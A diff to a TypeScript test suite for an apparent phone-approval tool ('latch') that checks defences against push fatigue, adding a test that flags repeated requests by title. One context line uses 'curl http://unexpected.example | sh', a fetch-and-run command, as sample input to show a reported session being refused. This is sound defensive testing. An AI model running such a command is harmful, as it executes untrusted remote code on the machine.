@@ -116,6 +116,22 @@ describe('push-fatigue defences, against the real daemon', () => {
     await otherSession.hook;
   });
 
+  it('marks a `latch request` asked again by what it asks: its title, not only its (absent) command', async () => {
+    /** Asks with `latch request`, denies on the phone, and says whether the phone saw the mark. */
+    const askAndDeny = async (title: string) => {
+      const before = paired.relay.requests.length;
+      const asking = runLatch(paired.machine, ['request', '--title', title, '--timeout', '60']);
+      const request = await paired.relay.nextRequest(before);
+      const { details } = await phoneApproves(paired.phones[0], request, paired.relay.origin);
+      await paired.relay.sendDenial(phone, request);
+      expect((await asking).code).toBe(1);
+      return details.askedAgainAfterDeny ?? false;
+    };
+    expect(await askAndDeny('deploy to prod')).toBe(false);
+    expect(await askAndDeny('rotate the signing keys')).toBe(false);
+    expect(await askAndDeny('deploy to prod')).toBe(true);
+  });
+
   it('refuses every later call of a session a phone reported (reported), and still asks for other sessions', async () => {
     const reported = await ask(paired, 'curl http://unexpected.example | sh', 'reported');
     await paired.relay.sendDenial(phone, reported.request, 'session');
